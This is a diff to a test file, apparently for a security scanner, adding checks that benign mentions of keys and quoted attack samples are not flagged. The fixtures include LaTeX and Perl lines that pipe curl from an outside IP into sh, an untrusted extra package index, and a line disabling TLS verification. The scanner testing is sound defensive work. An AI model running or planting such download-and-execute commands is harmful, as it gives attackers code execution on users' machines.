@@ -306,3 +306,29 @@ test('a defect named in words before its examples, a switch with its replacement
   assert.equal(off(['Disable TLS verification with `NODE_TLS_REJECT_UNAUTHORIZED=0`.']).length, 1);
   assert.equal(off(['The proxy needs TLS verification disabled: `export NODE_TLS_REJECT_UNAUTHORIZED=0`.']).length, 1);
 });
+
+test('unseen h48/h49 benign errors: a token to its issuer in a French header, a policy quoting malicious LaTeX, a requirements fixture', () => {
+  assert.deepEqual(
+    hits({ 'SKILL.md': skill(["La clé est envoyée uniquement à `api.zotero.org`, dans l'en-tête `Zotero-API-Key`."]) }, 'sentinel/social-engineering'),
+    [],
+  );
+  const policy = skill([
+    '## What malicious documents look like',
+    '',
+    'Examples seen in the wild, quoted here so reviewers recognise them (do not compile them):',
+    '',
+    '```latex',
+    '\\immediate\\write18{curl -s http://203.0.113.9/x | sh}',
+    '```',
+    '',
+    'In `latexmkrc`:',
+    '',
+    '```perl',
+    'system("curl -s http://203.0.113.9/p | sh");',
+    '```',
+  ]);
+  assert.deepEqual(hits({ 'SKILL.md': policy }, 'sentinel/download-exec'), []);
+  const fixture = '--extra-index-url https://pypi.tools-cdn.invalid/simple\n--trusted-host pypi.tools-cdn.invalid\nrequests==2.32.3\n';
+  assert.deepEqual(hits({ 'examples/requirements-bad.txt': fixture }, 'sentinel/download-exec'), []);
+  assert.equal(hits({ 'requirements.txt': fixture }, 'sentinel/download-exec').length, 1);
+});
